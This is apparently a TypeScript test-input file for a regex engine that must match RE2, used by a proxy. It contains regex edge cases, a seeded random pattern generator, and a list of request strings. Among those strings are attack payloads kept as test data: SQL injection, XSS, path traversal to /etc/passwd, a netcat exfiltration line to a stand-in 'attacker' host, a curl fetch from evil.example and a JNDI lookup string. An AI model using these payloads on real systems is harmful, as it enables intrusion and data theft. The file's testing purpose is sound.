// Inputs for the regex tests: typical request strings, inputs derived from a pattern's own literals,
// and syntax edge cases (each with inputs) whose RE2 behaviour the engine must reproduce.

/** Header/path/body strings a proxy sees, attack-looking ones included, plus Unicode and controls. */
export const GENERIC_INPUTS: string[] = [
  '',
  'a',
  '/',
  '/index.html',
  '/api/v1/users/12345?expand=true&limit=10',
  'GET /search?q=hello+world HTTP/1.1',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  'application/x-www-form-urlencoded; charset=UTF-8',
  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc',
  "1' OR '1'='1",
  '1 UNION SELECT username, password FROM users--',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '; cat /etc/passwd | nc attacker 4444',
  '$(curl http://evil.example/x.sh)',
  '${jndi:ldap://evil.example/a}',
  'php://filter/convert.base64-encode/resource=index.php',
  '{{7*7}}',
  'SELECT * FROM t WHERE id=1; DROP TABLE t',
  'sleep(5)#',
  'é ü ñ 中文 日本語 😀 Ω',
  'İstanbul ſtraße K KELVIN',
  'line1\nline2\r\nline3',
  '\t\v\f\u0000\u007f',
  'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!',
  'keep-alive, close',
  'bytes=0-100,200-300',
  '127.0.0.1:8080',
  'x'.repeat(300) + 'select' + 'y'.repeat(300),
];

/** Inputs built from the words and punctuation in a pattern's source, so most patterns get hits. */
export function inputsFromPattern(pattern: string, max: number): string[] {
  const words = [...new Set(pattern.match(/[A-Za-z][A-Za-z0-9_]{2,}/g) ?? [])];
  const out: string[] = [];
  for (let i = 0; i < words.length && out.length < max; i++) {
    const w = words[i];
    out.push(w, ` ${w.toUpperCase()}(`, `x=${w}&y=${words[(i + 1) % words.length]}`, `/${w}/../${w}.php?`);
  }
  // Literal runs between metacharacters, joined: hits patterns made of concatenated keywords.
  const literals = pattern.replace(/\\[dswbDSWB]/g, ' ').replace(/\\(.)/g, '$1').replace(/[()[\]{}|*+?^$]/g, '');
  out.push(literals.slice(0, 200));
  return out.slice(0, max + 1);
}

export interface EdgeCase {
  pattern: string;
  flags?: string;
  inputs: string[];
}

/** Patterns RE2 accepts that we reject on purpose (documented in assembly/regex/README.md). */
export const INTENTIONAL_REJECTIONS: string[] = ['\\C', 'a\\C+b'];

const SHORT = ['', 'a', 'ab', 'abc', 'aaa', 'abab', 'ba', 'xyz', 'A', 'AbC', 'a\nb', '\n', 'foo bar', 'é', 'Éé', '1234', 'a1_b2'];

function cases(patterns: string[], inputs: string[] = SHORT, flags = ''): EdgeCase[] {
  return patterns.map((pattern) => ({ pattern, inputs, flags }));
}

export const EDGE_CASES: EdgeCase[] = [
  // Leftmost-first alternation, greediness, captures.
  ...cases(['a|ab', 'ab|a', '(a|ab)(c|bcd)(d*)', '(a*)*', '(a*)+', '(a|b)*', '(a*)*b', '(a+|b+)*c', '(a?)(a?)(a?)', 'a*?', 'a+?', 'a??b',
    '(a+)(b+)?', '(?:a|(b))+', '(a)|(b)', '(a)?(b)?', '()', '(|a)', '(a|)', 'x*', '(x*)(y*)', '(a*?)(a*)', '((a)|b)+', '(a{2})*']),
  ...cases(['a{2}', 'a{2,}', 'a{1,2}', 'a{0}', 'a{0,1}', 'a{,2}', 'a{2', 'a{x}', '{', 'a{01}', 'a{1001}', 'a{1000}', '(a{2}){2}',
    'a{2,1}', '(?:a{10}){100}', '(?:a{10}){101}', '((a{10}){10}){10}', '((a{10}){10}){11}', 'a{2}?', 'a{1,3}?b']),
  // Stacked or missing repetition operands.
  ...cases(['a**', 'a*+', 'a+*', 'a??', 'a???', 'a{2}*', 'a*{2}', '*', '+a', '?', '(*)', 'a|*', '^*', '$+', '\\b*', '(?i)*', 'a(?i)*', '(?:)*', '()*', '(|)+']),
  // Anchors, multi-line, word boundaries.
  ...cases(['^', '$', '^$', '^a', 'a$', '^a$', '\\Aa', 'a\\z', '\\Z', '(?m)^b', '(?m)a$', '(?m)^$', '\\bab\\b', '\\Bb', '\\b', '\\B', '^\\b', 'b\\b$']),
  ...cases(['(?m:^)b', '(?s).', '.', '(?s:.)+', '.+', '[^a]', '[^\\n]+', '\\n'], ['a\nb', '\n\n', 'b\n', '\na', 'ab\ncd\n']),
  // Case folding.
  ...cases(['(?i)abc', '(?i)ABC', '(?i:a)b', '(?i)[a-c]+', '(?i)[^a]', '(?i)k', '(?i)s', '(?i)é', '(?i)\\w+', '(?i)\\W', '(?i)[[:lower:]]+',
    '(?i)ǅ', '(?i)σ', '(?i)[k-l]', '(?i)[^k]', '(?i)ß', '(?i)ẞ', '(?-i)a', '(?i)a(?-i)b', '(?i-s:a.)'],
  ['K', 'k', 'K', 'S', 's', 'ſ', 'É', 'é', 'ǅ', 'ǆ', 'Ǆ', 'Σ', 'σ', 'ς', 'ß', 'ẞ', 'ABC', 'abc', 'aB', 'Ab', 'L', 'a\nb', 'A\n']),
  // Classes.
  ...cases(['[a-c]', '[]a]', '[^]a]', '[a-]', '[-a]', '[a\\-z]', '[\\d-z]', '[a-\\d]', '[z-a]', '[]', '[^]', '[', ']', 'a]', '[[:alpha:]]+', '[[:^alpha:]]+',
    '[[:word:]]', '[[:foo:]]', '[[:alpha:]', '[[:alpha]', '[\\[\\]]', '[\\]]', '[a-c[:digit:]]', '[^\\x00-\\x{10FFFF}]', '[\\x{100}-\\x{200}]', '[é-ü]+',
    '\\d+', '\\D+', '\\s', '\\S+', '\\w+', '\\W', '[\\s\\x0b]', '[^\\d]', '[\\D]', '\\pL+', '\\p{L}', '\\PL', '\\p{^L}', '\\p{Greek}', '\\p{Lu}', '\\p{Nd}+',
    '\\p{Foo}', '\\pX', '\\p', '\\p{', '\\p{Any}', '[\\p{Latin}\\d]+', '[^\\p{L}]', '\\p{Han}']),
  // Escapes.
  ...cases(['\\x41', '\\x{41}', '\\x{}', '\\x{110000}', '\\x4', '\\xg1', '\\101', '\\0', '\\08', '\\1', '\\8', '\\12', '\\e', '\\g', '\\k<a>', '\\_', '\\-',
    '\\.', '\\Qa.b\\E+', '\\Q(a\\E', '\\Qab', 'a\\', '\\a\\f\\t\\n\\r\\v', '\\é', '\\ ', '\\!', '\\%', '\\<', '\\y', '\\G', '\\K']),
  // Groups and flags syntax.
  ...cases(['(?P<n>a)', '(?<n>a)(?P<m>b)', '(?P<n>a)(?P<n>b)', '(?P<>a)', '(?P<1a>a)', '(?P<a-b>a)', '(?P<é>a)', '(?P=n)', '(?P>n)', "(?'n'a)", '(?<n', '(?=a)',
    '(?!a)', '(?<=a)b', '(?<!a)b', '(?#comment)', '(?i', '(?i)', '(?i:', '(?-)', '(?i-)', '(?--i)', '(?x)', '(?U)a+', '(?U)a+?', '(?sm)a.$', '(?:a', 'a)', '(a))', '((a)',
    '(?:(?:(?:a)))', '(?i)(?-i:A)a', '(?smiU:a)']),
  // Flags passed as options.
  ...cases(['ABC', 'a.c', '^b', 'a+'], ['abc', 'ABC', 'a\nc', 'x\nb', 'aaa'], 'i'),
  ...cases(['a.c', '.+'], ['a\nc', 'ab\ncd'], 's'),
  ...cases(['^b$', '^', '$'], ['a\nb\nc', 'b'], 'm'),
  ...cases(['a+', 'a*?b', '(a+?)(a*)'], ['aaab', 'aaa'], 'U'),
];

/** Deterministic PRNG (mulberry32) so a failing random case can be reproduced from its seed. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const ATOMS: [string, boolean][] = [
  ['a', false], ['b', false], ['.', false], ['[ab]', false], ['[^a]', false], ['x', false], ['é', false],
  ['(?i:A)', false], ['\\b', true], ['^', true], ['$', true],
];
/** Repetition suffixes, with whether they allow zero copies. */
const REPEATS: [string, boolean][] = [
  ['', false], ['', false], ['', false], ['*', true], ['+', false], ['?', true], ['{0,2}', true], ['{1,}', false],
  ['*?', true], ['+?', false], ['??', true], ['{2}', false], ['{1,3}?', false],
];

/**
 * A random pattern over a tiny alphabet, to exercise operator interplay. Repetitions of expressions
 * that can match empty are left out: on those RE2's DFA and NFA can disagree with each other (see
 * "Known differences" in assembly/regex/README.md), so there is no single answer to compare with.
 */
export function randomPattern(rand: () => number, depth = 0): string {
  return randomAlt(rand, depth)[0];
}

function randomAlt(rand: () => number, depth: number): [string, boolean] {
  const pick = <T>(xs: T[]) => xs[Math.floor(rand() * xs.length)];
  const alts: string[] = [];
  let nullable = false;
  const nAlts = 1 + Math.floor(rand() * (depth > 1 ? 1 : 3));
  for (let i = 0; i < nAlts; i++) {
    let concat = '';
    let concatNullable = true;
    const n = Math.floor(rand() * 4);
    for (let j = 0; j < n; j++) {
      const r = rand();
      let atom: [string, boolean];
      if (depth < 3 && r < 0.25) {
        const [src, nul] = randomAlt(rand, depth + 1);
        atom = [`(${src})`, nul];
      } else if (depth < 3 && r < 0.35) {
        const [src, nul] = randomAlt(rand, depth + 1);
        atom = [`(?:${src})`, nul];
      } else {
        atom = pick(ATOMS);
      }
      const [suffix, zero] = atom[1] ? ['', false] : pick(REPEATS);
      concat += atom[0] + suffix;
      concatNullable = concatNullable && (atom[1] || zero);
    }
    alts.push(concat);
    nullable = nullable || concatNullable;
  }
  return [alts.join('|'), nullable];
}

export function randomInput(rand: () => number): string {
  const chars = ['a', 'b', 'x', ' ', '\n', 'A', 'é'];
  let s = '';
  const n = Math.floor(rand() * 9);
  for (let i = 0; i < n; i++) s += chars[Math.floor(rand() * chars.length)];
  return s;
}
